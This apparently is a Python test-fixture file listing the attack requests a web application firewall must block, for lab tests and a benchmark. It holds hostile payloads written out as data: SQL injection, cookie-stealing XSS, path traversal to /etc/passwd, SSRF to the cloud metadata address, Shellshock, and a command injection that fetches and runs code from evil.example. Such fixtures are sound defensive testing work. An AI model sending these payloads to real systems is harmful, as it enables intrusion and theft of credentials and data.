"""The attack set the WAF must refuse (WAF): one request per kind of attack and per place it hides in.

Used by the lab tests (tests/lab/test_edge.py: each refused with 403 and in the audit log) and by
the WAF benchmark (rempart/bench.py: no loss of blocking against a default setup). Each entry is
(name, method, path, headers, body).
"""

from __future__ import annotations

from rempart.lab_client import multipart

FORM = {"Content-Type": "application/x-www-form-urlencoded"}
JSON = {"Content-Type": "application/json"}
# A small PDF, as a citizen attaches.
DOCUMENT = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\n%%EOF\n"


def _multipart_named(filename: str) -> tuple[dict, bytes]:
    body, kind = multipart({"procedure": "residence-certificate", "full_name": "A", "email": "a@example.org", "message": "m"},
                           DOCUMENT, filename)
    return {"Content-Type": kind}, body


ATTACKS: list[tuple[str, str, str, dict, bytes | None]] = [
    ("sql injection in the query", "GET", "/?id=1%27%20OR%20%271%27%3D%271%27%20--", {}, None),
    ("sql union in the query", "GET", "/status?t=1%20UNION%20SELECT%20password_hash%20FROM%20agents--", {}, None),
    ("sql injection in a form", "POST", "/submissions", FORM, b"full_name=x%27%3B%20DROP%20TABLE%20submissions%3B--&email=a%40b.c"),
    ("sql injection in JSON", "POST", "/submissions", JSON, b'{"full_name": "1\' UNION SELECT login, password_hash FROM agents --"}'),
    ("xss in the query", "GET", "/?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E", {}, None),
    ("xss in a form", "POST", "/submissions", FORM, b"message=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E"),
    ("xss in the Referer header", "GET", "/", {"Referer": "https://x/<script>alert(1)</script>"}, None),
    ("path traversal in the query", "GET", "/agent/documents/1?name=..%2F..%2F..%2F..%2Fetc%2Fpasswd", {}, None),
    ("path traversal in a cookie", "GET", "/", {"Cookie": "lang=../../../../etc/passwd"}, None),
    ("sql injection in a cookie", "GET", "/agent/", {"Cookie": "__Host-eservice-session=x' UNION SELECT 1,2--"}, None),
    ("command injection in the query", "GET", "/?host=127.0.0.1%3Bcat%20/etc/passwd", {}, None),
    ("command injection in a form", "POST", "/submissions", FORM, b"message=%24(curl%20http%3A%2F%2Fevil.example%2Fx%7Csh)"),
    ("shellshock in a header", "GET", "/", {"User-Agent": "() { :; }; /bin/bash -c 'cat /etc/passwd'"}, None),
    ("ssrf to the cloud metadata address", "GET", "/?url=http://169.254.169.254/latest/meta-data/", {}, None),
    ("ssrf with a file URL", "GET", "/?next=file:///etc/passwd", {}, None),
    ("scanner user agent (sqlmap)", "GET", "/", {"User-Agent": "sqlmap/1.7.2#stable (https://sqlmap.org)"}, None),
    ("scanner user agent (nikto)", "GET", "/", {"User-Agent": "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)"}, None),
    ("method the application does not use", "PUT", "/submissions", FORM, b"a=b"),
    ("body type the application does not take", "POST", "/submissions", {"Content-Type": "text/xml"}, b"<a>b</a>"),
    ("GET with a body", "GET", "/", FORM, b"a=b"),
    ("path traversal in a multipart file name", "POST", "/submissions", *_multipart_named("../../../../etc/cron.d/evil")),
    ("script in a multipart file name", "POST", "/submissions", *_multipart_named("<img src=x onerror=alert(1)>.pdf")),
]
